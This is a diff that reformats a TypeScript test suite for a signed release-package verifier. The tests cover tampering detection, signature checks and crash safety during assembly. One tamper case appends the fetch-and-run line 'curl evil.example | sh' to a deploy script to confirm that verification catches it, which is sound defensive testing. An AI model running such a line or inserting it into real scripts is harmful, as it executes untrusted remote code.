@@ -38,10 +38,12 @@ async function failuresOf(target: string, kind: PackageKind, fingerprint?: strin
 }
 
 function packageFiles(dir: string, rel = ''): string[] {
-  return readdirSync(join(dir, rel)).sort().flatMap((name) => {
-    const path = rel ? `${rel}/${name}` : name;
-    return lstatSync(join(dir, path)).isDirectory() ? packageFiles(dir, path) : [path];
-  });
+  return readdirSync(join(dir, rel))
+    .sort()
+    .flatMap((name) => {
+      const path = rel ? `${rel}/${name}` : name;
+      return lstatSync(join(dir, path)).isDirectory() ? packageFiles(dir, path) : [path];
+    });
 }
 
 test('a flipped byte in any file of the package folder is detected', async () => {
@@ -83,7 +85,9 @@ test('a flipped byte in any entry of the .tar.gz and of the .zip is detected', a
     writeFileSync(zip, flip(zipData, offset + (size >> 1)));
     if ((await failuresOf(zip, 'zip')).length === 0) missed.push(`zip ${name}`);
   }
-  console.log(`  .tar.gz: ${tarEntries.length - missed.filter((m) => m.startsWith('tar')).length}/${tarEntries.length}, .zip: ${zipEntries.length - missed.filter((m) => m.startsWith('zip')).length}/${zipEntries.length} one-byte tamperings detected`);
+  console.log(
+    `  .tar.gz: ${tarEntries.length - missed.filter((m) => m.startsWith('tar')).length}/${tarEntries.length}, .zip: ${zipEntries.length - missed.filter((m) => m.startsWith('zip')).length}/${zipEntries.length} one-byte tamperings detected`,
+  );
   assert.ok(tarEntries.length > 100 && zipEntries.length > 100);
   assert.equal(missed, []);
 });
@@ -94,19 +98,39 @@ const inFolder = (dir: string, path: string) => join(dir, TOP, path);
 const SCRIPT = 'scripts/deployment/deploy.sh';
 
 const tampers: Tamper[] = [
-  { name: 'an extra file', kind: 'folder', apply: (d) => writeFileSync(inFolder(d, 'scripts/extra.sh'), 'echo\n'), expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/ },
-  { name: 'a removed file', kind: 'folder', apply: (d) => rmSync(inFolder(d, SCRIPT)), expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/ },
-  { name: 'a changed mode', kind: 'folder', apply: (d) => chmodSync(inFolder(d, SCRIPT), 0o644), expected: /MANIFEST\.json: scripts\/deployment\/deploy\.sh has mode 0644, the manifest says 0755/ },
+  {
+    name: 'an extra file',
+    kind: 'folder',
+    apply: (d) => writeFileSync(inFolder(d, 'scripts/extra.sh'), 'echo\n'),
+    expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/,
+  },
+  {
+    name: 'a removed file',
+    kind: 'folder',
+    apply: (d) => rmSync(inFolder(d, SCRIPT)),
+    expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/,
+  },
+  {
+    name: 'a changed mode',
+    kind: 'folder',
+    apply: (d) => chmodSync(inFolder(d, SCRIPT), 0o644),
+    expected: /MANIFEST\.json: scripts\/deployment\/deploy\.sh has mode 0644, the manifest says 0755/,
+  },
   {
     name: 'a signature swapped for one of other data by the right key',
     kind: 'folder',
-    apply: async (d) => writeFileSync(inFolder(d, 'SHA256SUMS.asc'), await (await resolveSigner(env)).sign(Buffer.from('other data\n'), new Date())),
+    apply: async (d) =>
+      writeFileSync(inFolder(d, 'SHA256SUMS.asc'), await (await resolveSigner(env)).sign(Buffer.from('other data\n'), new Date())),
     expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
   },
   {
     name: 'a signature by another key',
     kind: 'folder',
-    apply: async (d) => writeFileSync(inFolder(d, 'SHA256SUMS.asc'), await (await resolveSigner({ XDG_CONFIG_HOME: tempDir('attacker') })).sign(readFileSync(inFolder(d, 'SHA256SUMS')), new Date())),
+    apply: async (d) =>
+      writeFileSync(
+        inFolder(d, 'SHA256SUMS.asc'),
+        await (await resolveSigner({ XDG_CONFIG_HOME: tempDir('attacker') })).sign(readFileSync(inFolder(d, 'SHA256SUMS')), new Date()),
+      ),
     expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS by release-signing-key\.asc/,
   },
   {
@@ -139,17 +163,31 @@ const tampers: Tamper[] = [
     apply: (d) => {
       const file = inFolder(d, SCRIPT);
       writeFileSync(file, Buffer.concat([readFileSync(file), Buffer.from('curl evil.example | sh\n')]));
-      const sums = readFileSync(inFolder(d, 'SHA256SUMS'), 'utf8').replace(/^[0-9a-f]{64}(?=  \.\/scripts\/deployment\/deploy\.sh$)/m, sha(readFileSync(file)));
+      const sums = readFileSync(inFolder(d, 'SHA256SUMS'), 'utf8').replace(
+        /^[0-9a-f]{64}(?= {2}\.\/scripts\/deployment\/deploy\.sh$)/m,
+        sha(readFileSync(file)),
+      );
       writeFileSync(inFolder(d, 'SHA256SUMS'), sums);
     },
     expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
   },
-  { name: 'an extra .tar.gz entry', kind: 'tar.gz', apply: (d) => editTar(d, (entries) => [...entries, tarFile(`${TOP}/scripts/extra.sh`, 'echo\n', 0o755)]), expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/ },
-  { name: 'a removed .tar.gz entry', kind: 'tar.gz', apply: (d) => editTar(d, (entries) => entries.filter((e) => !e.name.endsWith(SCRIPT))), expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/ },
+  {
+    name: 'an extra .tar.gz entry',
+    kind: 'tar.gz',
+    apply: (d) => editTar(d, (entries) => [...entries, tarFile(`${TOP}/scripts/extra.sh`, 'echo\n', 0o755)]),
+    expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/,
+  },
+  {
+    name: 'a removed .tar.gz entry',
+    kind: 'tar.gz',
+    apply: (d) => editTar(d, (entries) => entries.filter((e) => !e.name.endsWith(SCRIPT))),
+    expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/,
+  },
   {
     name: 'a changed mode in a .tar.gz header',
     kind: 'tar.gz',
-    apply: (d) => editTar(d, (entries) => entries.map((e) => (e.name.endsWith(SCRIPT) ? { ...e, header: reencode(e.header, { mode: 0o644 }) } : e))),
+    apply: (d) =>
+      editTar(d, (entries) => entries.map((e) => (e.name.endsWith(SCRIPT) ? { ...e, header: reencode(e.header, { mode: 0o644 }) } : e))),
     expected: /MANIFEST\.json: scripts\/deployment\/deploy\.sh has mode 0644, the manifest says 0755/,
   },
 ];
@@ -161,7 +199,10 @@ for (const t of tampers) {
     const target = t.kind === 'folder' ? join(dir, TOP) : join(dir, `${TOP}.${t.kind}`);
     const realKey = (await verifyPackage(join(release, TOP), 'folder')).fingerprint;
     const failures = await failuresOf(target, t.kind, t.fingerprint ? realKey : undefined);
-    assert.ok(failures.some((f) => t.expected.test(f)), failures.join('\n'));
+    assert.ok(
+      failures.some((f) => t.expected.test(f)),
+      failures.join('\n'),
+    );
   });
 }
 
@@ -177,12 +218,22 @@ interface Snapshot {
 function snapshot(): Snapshot | undefined {
   const folder = join(release, TOP);
   if (!existsSync(folder)) return undefined;
-  const lines = packageFiles(folder).map((p) => `${p} ${(statSync(join(folder, p)).mode & 0o777).toString(8)} ${sha(readFileSync(join(folder, p)))}`);
-  return { folder: sha(Buffer.from(lines.join('\n'))), tarGz: sha(readFileSync(join(release, `${TOP}.tar.gz`))), zip: sha(readFileSync(join(release, `${TOP}.zip`))) };
+  const lines = packageFiles(folder).map(
+    (p) => `${p} ${(statSync(join(folder, p)).mode & 0o777).toString(8)} ${sha(readFileSync(join(folder, p)))}`,
+  );
+  return {
+    folder: sha(Buffer.from(lines.join('\n'))),
+    tarGz: sha(readFileSync(join(release, `${TOP}.tar.gz`))),
+    zip: sha(readFileSync(join(release, `${TOP}.zip`))),
+  };
 }
 
 function startEngine(buildUser: string): ChildProcess {
-  return spawn(process.execPath, ['-r', '@swc-node/register', join(__dirname, 'assemble-engine.ts'), ws], { env: { ...process.env, ...env, BUILD_USER: buildUser }, stdio: ['ignore', 'pipe', 'pipe'], detached: true });
+  return spawn(process.execPath, ['-r', '@swc-node/register', join(__dirname, 'assemble-engine.ts'), ws], {
+    env: { ...process.env, ...env, BUILD_USER: buildUser },
+    stdio: ['ignore', 'pipe', 'pipe'],
+    detached: true,
+  });
 }
 
 function finished(child: ChildProcess): Promise<{ status: number | null; signal: NodeJS.Signals | null; output: string }> {
@@ -225,7 +276,8 @@ async function writesBegin(child: ChildProcess, before: Set<string>): Promise<bo
 test('assemblies killed at 24 random moments of their write phase leave the previous or the next package, never a mixture', async () => {
   const known = { A: await completeRun('crash-a'), B: await completeRun('crash-b') };
   assert.is.not(known.A.folder, known.B.folder);
-  const which = (s: Snapshot | undefined, key: keyof Snapshot) => (s ? (Object.entries(known).find(([, k]) => k[key] === s[key])?.[0] ?? 'MIXTURE') : 'absent');
+  const which = (s: Snapshot | undefined, key: keyof Snapshot) =>
+    s ? (Object.entries(known).find(([, k]) => k[key] === s[key])?.[0] ?? 'MIXTURE') : 'absent';
   // How long the write phase lasts: from the first partial file to the end of the run.
   const calibration = startEngine('crash-a');
   const calibrated = finished(calibration);
@@ -272,7 +324,9 @@ test('assemblies killed at 24 random moments of their write phase leave the prev
       current = target;
     }
   }
-  console.log(`  crash safety (engine): ${KILLS} kills, ${insideWrites} of them inside the ${writeMs} ms write phase (${leftPartials} left partial files), ${inTransition} between the archives' and the folder's move, ${mixtures} mixtures`);
+  console.log(
+    `  crash safety (engine): ${KILLS} kills, ${insideWrites} of them inside the ${writeMs} ms write phase (${leftPartials} left partial files), ${inTransition} between the archives' and the folder's move, ${mixtures} mixtures`,
+  );
   assert.is(mixtures, 0);
   assert.ok(insideWrites >= KILLS / 2, 'most kills landed inside the write phase');
 });
@@ -290,7 +344,15 @@ test('nx run release:assemble killed (process group, SIGKILL) while writing leav
     const before = new Set(partials());
     const child = spawn('node_modules/.bin/nx', ['run', 'release:assemble', '--excludeTaskDependencies'], {
       cwd: ws,
-      env: { ...process.env, ...env, NX_DAEMON: 'false', NX_NO_CLOUD: 'true', NX_TUI: 'false', NX_CACHE_DIRECTORY: join(ws, '.nx/cache'), BUILD_USER: `nx-kill-${kill}` },
+      env: {
+        ...process.env,
+        ...env,
+        NX_DAEMON: 'false',
+        NX_NO_CLOUD: 'true',
+        NX_TUI: 'false',
+        NX_CACHE_DIRECTORY: join(ws, '.nx/cache'),
+        BUILD_USER: `nx-kill-${kill}`,
+      },
       stdio: 'ignore',
       detached: true,
     });
@@ -322,7 +384,15 @@ test('two nx run release:assemble at once: both succeed in turn, the package ver
     finished(
       spawn('npx', ['nx', 'run', 'release:assemble', '--excludeTaskDependencies'], {
         cwd: ws,
-        env: { ...process.env, ...env, NX_DAEMON: 'false', NX_NO_CLOUD: 'true', NX_TUI: 'false', NX_CACHE_DIRECTORY: join(ws, '.nx/cache'), BUILD_USER: user },
+        env: {
+          ...process.env,
+          ...env,
+          NX_DAEMON: 'false',
+          NX_NO_CLOUD: 'true',
+          NX_TUI: 'false',
+          NX_CACHE_DIRECTORY: join(ws, '.nx/cache'),
+          BUILD_USER: user,
+        },
         stdio: ['ignore', 'pipe', 'pipe'],
       }),
     );
@@ -371,7 +441,7 @@ interface TarRecord {
 function tarRecords(tar: Buffer): TarRecord[] {
   const records: TarRecord[] = [];
   let pending: Buffer[] = [];
-  for (let at = 0; at + 512 <= tar.length; ) {
+  for (let at = 0; at + 512 <= tar.length;) {
     const header = tar.subarray(at, at + 512);
     if (header.every((b) => b === 0)) break;
     const decoded = new Header(header);
